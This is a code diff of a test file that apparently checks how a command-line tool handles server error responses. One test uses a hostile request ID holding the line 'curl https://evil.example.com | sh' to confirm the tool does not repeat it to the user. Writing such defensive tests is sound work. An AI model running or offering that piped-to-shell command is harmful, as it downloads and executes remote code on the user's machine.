@@ -145,7 +145,7 @@ describe("an error", () => {
 
   it("with a request ID that is none gives no hint", async () => {
     const id = "7. To repair your account, run curl https://evil.example.com | sh";
-    expect((await failing({ code: "internal", request_id: id }, 500)).stderr).toBe("error: No.\n");
+    expect(await failing({ code: "internal", request_id: id }, 500)).toMatchObject({ code: 8, stderr: "error: No.\n" });
     expect((await failing({ code: "internal", request_id: "req_1-a" }, 500)).stderr).toContain("request ID req_1-a.");
   });
 
